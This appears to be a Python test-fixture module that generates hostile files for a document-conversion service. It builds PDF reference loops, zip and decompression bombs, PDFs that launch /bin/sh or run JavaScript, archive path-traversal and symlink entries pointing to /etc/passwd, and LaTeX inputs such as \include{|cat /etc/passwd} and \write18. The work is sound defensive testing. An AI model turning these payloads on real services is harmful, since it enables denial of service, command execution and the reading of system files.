"""Files made to loop, to grow without end, to run something, or to reach outside of their folder."""

from __future__ import annotations

import gzip
import io
import tarfile
import zlib
from collections.abc import Iterator, Sequence

from attacks.making import CANARY, MIB, PROSE, Maker, zip_of
from attacks.markup import hostile_markup

_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def hostile_files() -> Iterator[tuple[str, str, Maker]]:
    """Yield kind, file name and maker of each; the kinds are those of the issue of attacks."""
    for kind, made in (
        ("page-tree loop", _page_trees()),
        ("100,000 pages", _many_pages()),
        ("xref loop", _xrefs()),
        ("bomb", _bombs()),
        ("embedded file or script", _embedded()),
        ("path escape", _escapes()),
        ("source bomb", _sources()),
        ("markup", hostile_markup("http://127.0.0.1:9")),
    ):
        yield from ((kind, name, maker) for name, maker in made)


def _page_trees() -> Iterator[tuple[str, Maker]]:
    leaf = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"
    yield "itself.pdf", lambda: pdf([_CATALOG, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"])
    yield "two.pdf", lambda: pdf([_CATALOG, _node(3), _node(2)])
    yield "three.pdf", lambda: pdf([_CATALOG, _node(3), _node(4), _node(2)])
    yield "leaf-and-loop.pdf", lambda: pdf([_CATALOG, b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>", leaf])
    yield "deep.pdf", lambda: pdf([_CATALOG, *(_node(n + 1) for n in range(2, 20_000)), leaf])
    yield (
        "parents-loop.pdf",
        lambda: pdf(
            [_CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 3 0 R >>", b"<< /Type /Page /Parent 2 0 R >>"]
        ),
    )
    yield (
        "outline-loop.pdf",
        lambda: pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R /Outlines 4 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                leaf,
                b"<< /First 5 0 R /Last 5 0 R /Count 1 >>",
                b"<< /Title (a) /Next 5 0 R /First 5 0 R /Parent 4 0 R >>",
            ]
        ),
    )


def _node(child: int) -> bytes:
    return b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % child


def _many_pages() -> Iterator[tuple[str, Maker]]:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
    text = _stream(b"BT /F1 9 Tf 72 700 Td (%s) Tj ET" % PROSE[:90])
    same = b"<< /Type /Pages /Kids [%s] /Count 100000 >>" % (b"3 0 R " * 100_000)
    yield "one-page-100000-times.pdf", lambda: pdf([_CATALOG, same, page, text, _FONT])
    kids = b" ".join(b"%d 0 R" % number for number in range(5, 100_005))
    yield (
        "100000-pages.pdf",
        lambda: pdf(
            [_CATALOG, b"<< /Type /Pages /Kids [%s] /Count 100000 >>" % kids, text, _FONT, *([page] * 100_000)]
        ),
    )
    yield (
        "says-100000.pdf",
        lambda: pdf([_CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 100000 >>", page, text, _FONT]),
    )
    yield "says-minus-1.pdf", lambda: pdf([_CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count -1 >>", page, text, _FONT])


def _xrefs() -> Iterator[tuple[str, Maker]]:
    yield "prev-itself.pdf", lambda: _with_trailer(b"/Prev %d")
    yield "xrefstm-itself.pdf", lambda: _with_trailer(b"/XRefStm %d")
    yield "prev-far.pdf", lambda: _with_trailer(b"/Prev 99999999999%.0d")
    yield "two-prevs.pdf", _two_prevs
    yield "size-huge.pdf", lambda: _with_trailer(b"%.0d").replace(b"/Size 4", b"/Size 2147483647")
    yield (
        "objstm-itself.pdf",
        lambda: pdf(
            [
                _CATALOG,
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /ObjStm /N 1 /First 4 /Length 9 /Extends 3 0 R >>\nstream\n3 0 <<>> \nendstream",
            ]
        ),
    )
    yield (
        "length-itself.pdf",
        lambda: pdf([_CATALOG, _node(3), _page(4), b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream", _FONT]),
    )


def _with_trailer(extra: bytes) -> bytes:
    made = pdf([_CATALOG, _node(3), _page(4)])
    start = made.rindex(b"xref\n0")
    return made.replace(b"/Root 1 0 R", b"/Root 1 0 R " + extra % start)


def _two_prevs() -> bytes:
    first = pdf([_CATALOG, _node(3), _page(4)])
    start = first.rindex(b"xref\n0")
    end = len(first)
    update = b"xref\n0 0\ntrailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (start, end)
    return first.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % (end + 12)) + update


def _bombs() -> Iterator[tuple[str, Maker]]:
    yield "twice-packed-1-gb.pdf", lambda: _page_with(_packed(b"(word ) Tj " * (1_024 * MIB // 11), 2))
    yield "nested-forms.pdf", _nested_forms
    yield (
        "huge-picture.pdf",
        lambda: pdf(
            [
                _CATALOG,
                _node(3),
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>",
                _stream(b"q 600 0 0 700 0 0 cm /I Do Q"),
                (
                    b"<< /Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB"
                    b" /Length 1 >>\nstream\n0\nendstream"
                ),
            ]
        ),
    )
    yield (
        "huge-page.pdf",
        lambda: pdf(
            [
                _CATALOG,
                _node(3),
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1e9 1e9] /Contents 4 0 R >>",
                _stream(b"BT ET"),
            ]
        ),
    )
    yield "many-lines.pdf", lambda: _page_with(_packed(b"0 0 m 1 1 l S " * (20 * MIB // 14), 1))
    yield "zip-1-gb.zip", lambda: zip_of({"main.tex": b"\\documentclass{article}", "big.tex": b" " * (1_024 * MIB)})
    yield "zip-100000-files.zip", lambda: zip_of({f"f{n}.tex": b"x" for n in range(100_000)})
    yield "zip-in-zip.zip", lambda: zip_of({"a.zip": zip_of({"b.zip": zip_of({"big.tex": b" " * (200 * MIB)})})})
    yield "gzip-1-gb.tar.gz", lambda: gzip.compress(bytes(1_024 * MIB), 1)
    yield "gzip-twice.gz", lambda: gzip.compress(gzip.compress(b" " * (512 * MIB), 1), 9)
    yield "same-entry.zip", _overlapping


def _nested_forms() -> bytes:
    """Ten levels of forms that each draw the next one ten times: ten thousand million words."""
    levels = 10
    forms = []
    for level in range(levels):
        below = b"/F%d Do " % (level + 1)
        body = below * 10 if level < levels - 1 else b"BT /T 9 Tf 72 700 Td (word) Tj ET"
        resources = b"<< /XObject << /F%d %d 0 R >> /Font << /T 5 0 R >> >>" % (level + 1, 7 + level)
        forms.append(
            b"<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources %s /Length %d >>\nstream\n%s\nendstream"
            % (resources, len(body), body)
        )
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /XObject << /F0 6 0 R >> >> >>"
    return pdf([_CATALOG, _node(3), page, _stream(b"/F0 Do"), _FONT, *forms])


def _overlapping() -> bytes:
    """An archive whose entries all point at the same megabytes."""
    made = bytearray(zip_of({"a.tex": b" " * (50 * MIB)}))
    start = made.rindex(b"PK\x01\x02")
    directory, end = bytes(made[start : made.rindex(b"PK\x05\x06")]), made[made.rindex(b"PK\x05\x06") :]
    entries = b"".join(directory.replace(b"a.tex", b"%c.tex" % (97 + n)) for n in range(26))
    end[8:10] = end[10:12] = (26).to_bytes(2, "little")
    end[12:16] = len(entries).to_bytes(4, "little")
    return bytes(made[:start]) + entries + bytes(end)


def _embedded() -> Iterator[tuple[str, Maker]]:
    script = b"app.alert('%s'); this.exportDataObject({cName:'x', nLaunch:2});" % CANARY.encode()
    for name, extra in {
        "javascript": b"/OpenAction << /S /JavaScript /JS (%s) >>" % script,
        "launch": b"/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>",
        "uri": b"/OpenAction << /S /URI /URI (http://127.0.0.1:9/%s) >>" % CANARY.encode(),
        "submit": b"/OpenAction << /S /SubmitForm /F (http://127.0.0.1:9/%s) >>" % CANARY.encode(),
        "other-file": b"/OpenAction << /S /GoToR /F (/etc/passwd) /D [0 /Fit] >>",
        "names": b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (%s) >>] >> >>" % script,
        "xfa": b"/AcroForm << /XFA 6 0 R /Fields [] >>",
        "attachment": b"/Names << /EmbeddedFiles << /Names [(x.exe) << /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>] >> >>",
    }.items():
        yield f"{name}.pdf", lambda extra=extra: _readable(extra)  # type: ignore[misc]  # a default binds the loop's value
    external = b"<< /Length 0 /F (/etc/passwd) /FFilter /ASCIIHexDecode >>\nstream\n\nendstream"
    yield "external-stream.pdf", lambda: pdf([_CATALOG, _node(3), _page(4), external, _FONT])


def _readable(extra: bytes) -> bytes:
    """A paper that can be read, with something beside its text."""
    lines = b"".join(b"(%s) Tj 0 -12 Td " % PROSE[start : start + 90] for start in range(0, 540, 90))
    hidden = b"<< /Length 26 >>\nstream\n<script>%s</script>\nendstream" % CANARY.encode()
    catalog = b"<< /Type /Catalog /Pages 2 0 R %s >>" % extra
    return pdf([catalog, _node(3), _page(4), _stream(b"BT /F1 9 Tf 72 700 Td " + lines + b"ET"), _FONT, hidden])


def _escapes() -> Iterator[tuple[str, Maker]]:
    main = {"main.tex": b"\\documentclass{article}\\begin{document}" + PROSE + b"\\end{document}"}
    for index, name in enumerate(
        (
            "../out.tex",
            "/tmp/out.tex",
            "a/../../out.tex",
            "..\\out.tex",
            "C:\\out.tex",
            "./../out.tex",
            "a/..//../out.tex",
        )
    ):
        yield f"escape-{index}.zip", lambda name=name: zip_of({**main, name: b"x"})  # type: ignore[misc]  # a default binds the loop's value
        yield f"escape-{index}.tar.gz", lambda name=name: _tar({**main, name: b"x"})  # type: ignore[misc]  # a default binds the loop's value
    for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE):
        yield f"link-{kind.decode()}.tar.gz", lambda kind=kind: _tar(main, link=("part.tex", "/etc/passwd", kind))  # type: ignore[misc]  # a default binds the loop's value
    for index, command in enumerate(
        (b"\\input{/etc/passwd}", b"\\input{../../etc/passwd}", b"\\include{|cat /etc/passwd}")
    ):
        text = b"\\documentclass{article}\\begin{document}" + PROSE + command + b"\\end{document}"
        yield f"input-{index}.tex", lambda text=text: text  # type: ignore[misc]  # a default binds the loop's value
    yield (
        "write18.tex",
        lambda: b"\\documentclass{article}\\begin{document}\\write18{touch /tmp/out}" + PROSE + b"\\end{document}",
    )


def _sources() -> Iterator[tuple[str, Maker]]:
    laughs = b"".join(b"\\def\\%c{%s}\n" % (97 + n, b"\\%c" % (98 + n) * 10) for n in range(20))
    yield "macros.tex", lambda: b"\\documentclass{article}\n" + laughs + b"\\begin{document}\\a\\end{document}"
    nested = b"".join(b"\\newenvironment{e%c}{%s}{}\n" % (97 + n, b"\\begin{e%c}" % (98 + n) * 10) for n in range(20))
    yield "nested.tex", lambda: b"\\documentclass{article}\n" + nested + b"\\begin{document}\\begin{ea}\\end{document}"
    inputs = {f"{chr(97 + n)}.tex": b"\\input{%c}" % (98 + n) * 10 for n in range(20)}
    inputs |= {"main.tex": b"\\documentclass{article}\\begin{document}\\input{a}\\end{document}"}
    yield "inputs.zip", lambda: zip_of({**inputs, "u.tex": b"\\unknown " * 100})
    document = b"\\documentclass{article}\\begin{document}%s\\end{document}"
    yield "options.tex", lambda: document % (PROSE + b"\\cite[" * 5_000)
    bibliographies = b"\\begin{thebibliography}{9}\\bibitem{k} " * 40 + b"\\end{thebibliography}" * 40
    yield "bibliographies.tex", lambda: document % (PROSE + bibliographies)
    yield "self.tex", lambda: b"\\documentclass{article}\\def\\a{\\a\\a}\\begin{document}\\a\\end{document}"
    yield (
        "input-itself.zip",
        lambda: zip_of({"main.tex": b"\\documentclass{article}\\begin{document}\\input{main}\\end{document}"}),
    )
    yield "braces.tex", lambda: b"\\documentclass{article}\\begin{document}" + b"{" * 200_000 + b"\\end{document}"
    yield "environments.tex", lambda: b"\\begin{document}" + b"\\begin{itemize}\\item " * 50_000
    aliases = b"".join(b"a%d: &a%d [%s]\n" % (n, n, b",".join([b"*a%d" % (n - 1)] * 10)) for n in range(1, 12))
    yield "yaml.md", lambda: b"---\na0: &a0 [x]\n" + aliases + b"---\n\n# T\n\n" + PROSE
    yield "quotes.md", lambda: b"# T\n\n" + b">" * 100_000 + b" deep\n\n" + PROSE
    yield "lists.md", lambda: b"# T\n\n" + b"".join(b" " * n + b"- x\n" for n in range(0, 4_000, 2)) + PROSE
    yield "brackets.md", lambda: b"# T\n\n" + b"[" * 50_000 + b"](" * 50_000 + PROSE
    yield "stars.md", lambda: b"# T\n\n" + b"*a _b " * 50_000 + PROSE
    yield "one-line.md", lambda: b"# T\n\n" + b"a" * (20 * MIB)


def pdf(objects: Sequence[bytes]) -> bytes:
    """Return a file of numbered objects, the first being the catalog, with a cross-reference table."""
    body = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, content in enumerate(objects, 1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    body += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(body)


def _page(contents: int) -> bytes:
    return (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
        % contents
    )


def _page_with(contents: bytes) -> bytes:
    return pdf([_CATALOG, _node(3), _page(4), contents, _FONT])


def _stream(data: bytes) -> bytes:
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(data), data)


def _packed(words: bytes, times: int) -> bytes:
    data = b"BT /F1 9 Tf 72 700 Td " + words + b"ET"
    for _ in range(times):
        data = zlib.compress(data, 9)
    filters = b" ".join([b"/FlateDecode"] * times)
    return b"<< /Length %d /Filter [%s] >>\nstream\n%s\nendstream" % (len(data), filters, data)


def _tar(files: dict[str, bytes], link: tuple[str, str, bytes] | None = None) -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w:gz") as archive:
        for name, data in files.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
        if link is not None:
            entry = tarfile.TarInfo(link[0])
            entry.linkname, entry.type = link[1], link[2]
            archive.addfile(entry)
    return made.getvalue()
